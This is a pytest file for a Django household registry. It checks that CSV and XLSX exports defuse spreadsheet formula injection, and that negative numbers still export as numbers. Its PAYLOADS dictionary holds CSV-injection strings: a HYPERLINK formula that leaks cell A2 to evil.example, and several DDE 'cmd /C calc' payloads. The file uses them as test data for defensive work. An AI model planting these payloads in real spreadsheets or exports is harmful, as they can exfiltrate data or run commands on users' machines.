"""Export: a cell someone typed as a formula reaches the spreadsheet as plain text (OWASP)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from huimin.registry.bulk.export import _cell
from huimin.registry.models import Household
from tests.conftest import VILLAGE_A
from tests.registry.factories import make_household

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A2,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture
def typed_formulas(caseworker_a) -> dict[str, str]:
    """One household per dangerous first character, its address typed as a formula."""
    for prefix, payload in PAYLOADS.items():
        household = make_household(caseworker_a, head=f"户主{ord(prefix)}", others=())
        Household.objects.filter(pk=household.pk).update(address=payload)
    return PAYLOADS


def export(client, file_format: str):
    response = client.get(
        reverse("registry:export-download"), {"village": VILLAGE_A, "format": file_format}
    )
    assert response.status_code == 200
    return response


@pytest.mark.parametrize("prefix", list(PAYLOADS))
def test_it_quotes_a_csv_cell_that_starts_like_a_formula(
    client, caseworker_a, typed_formulas, prefix
):
    client.force_login(caseworker_a)
    text = export(client, "csv").content.decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    assert "'" + typed_formulas[prefix] in cells
    assert typed_formulas[prefix] not in cells


@pytest.mark.parametrize("prefix", list(PAYLOADS))
def test_it_writes_an_xlsx_cell_that_starts_like_a_formula_as_a_string(
    client, caseworker_a, typed_formulas, prefix
):
    client.force_login(caseworker_a)
    sheet = load_workbook(io.BytesIO(export(client, "xlsx").content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    # XML keeps a leading tab but may normalise a carriage return, hence the strip().
    typed = [c for c in cells if str(c.value or "").strip() == typed_formulas[prefix].strip()]
    assert typed, "the address is exported as typed, not altered"
    assert all(cell.data_type == "s" for cell in typed)
    assert not any(cell.data_type == "f" for cell in cells)


def test_negative_numbers_stay_numbers():
    assert _cell("income_wages", -1250, as_csv=True) == "-12.50"
    assert _cell("ethnicity", -3, as_csv=True) == "-3"
    assert _cell("address", "-3号", as_csv=True) == "'-3号"
    assert _cell("address", "建设路12号", as_csv=True) == "建设路12号"
